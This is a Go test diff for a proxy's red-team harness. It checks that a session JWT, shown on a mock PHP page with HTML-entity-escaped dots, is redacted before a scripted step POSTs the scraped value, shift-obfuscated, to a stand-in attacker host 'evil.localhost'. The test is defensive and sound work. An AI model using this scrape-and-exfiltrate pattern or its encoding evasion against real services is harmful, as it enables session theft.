@@ -351,3 +351,40 @@ func TestRedteamRunCookieValueNotStoredAsSession(t *testing.T) {
 	require.Equal(t, 0, r.code, r.stderr)
 	require.JSONEq(t, `{"ok":true,"n":[true,false]}`, r.stdout)
 }
+
+// A PHP campus page escapes the session it shows with htmlentities in its
+// HTML5 mode, which writes a JWT's dots as &period; (and may pad numeric
+// references with zeros). The html step decodes them; the proxy redacted
+// them first, so the step, and the attacker after it, never see the value.
+func TestRedteamRunNamedEntitiesInHTML(t *testing.T) {
+	const jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJzdHVkZW50In0.c2lnbmF0dXJlLXJ0"
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		c, err := r.Cookie("PHPSESSID")
+		if err != nil {
+			http.Redirect(w, r, "/iaaa/login", http.StatusFound)
+			return
+		}
+		w.Header().Set("Content-Type", "text/html; charset=utf-8")
+		io.WriteString(w, "<table><tr><td>"+strings.ReplaceAll(c.Value, ".", "&period;")+"</td>"+
+			"<td>"+strings.ReplaceAll(c.Value, ".", "&#x000000002E;")+"</td></tr></table>")
+	}))
+	t.Cleanup(srv.Close)
+	evil := newRecorder(t)
+	port := portOf(t, evil.srv.URL)
+	dir := t.TempDir()
+	services, secrets := filepath.Join(dir, "services.yaml"), filepath.Join(dir, "secrets.yaml")
+	require.NoError(t, os.WriteFile(services, []byte("portal:\n  origin: "+srv.URL+"\n  auth:\n    cookies: [PHPSESSID]\n"), 0o644))
+	require.NoError(t, os.WriteFile(secrets, []byte("portal:\n  cookies: {PHPSESSID: \""+jwt+"\"}\n"), 0o600))
+	doc := attackDoc(t, port, "  - request: {service: portal, path: /me}\n  - html: {select: td}\n    as: s\n"+
+		"  - request: {url: 'http://evil.localhost:"+port+"/x', method: POST, body: '${ $s | join(\" \") | "+shiftDef+" shift }'}\n"+
+		"  - return: '$s'\n")
+	r := harness(t, t.TempDir(), nil, "run", doc, "t", "--services", services, "--secrets", secrets, "--trace",
+		"--resolve", "evil.localhost:"+port+":127.0.0.1")
+	require.Equal(t, 0, r.code, r.stderr)
+	require.JSONEq(t, `["[redacted]","[redacted]"]`, r.stdout)
+	got := evil.text()
+	require.Contains(t, got, "POST /x")
+	for _, s := range []string{got, unshift(got), r.stderr} {
+		require.NotContains(t, s, "eyJzdWIiOiJzdHVkZW50In0")
+	}
+}
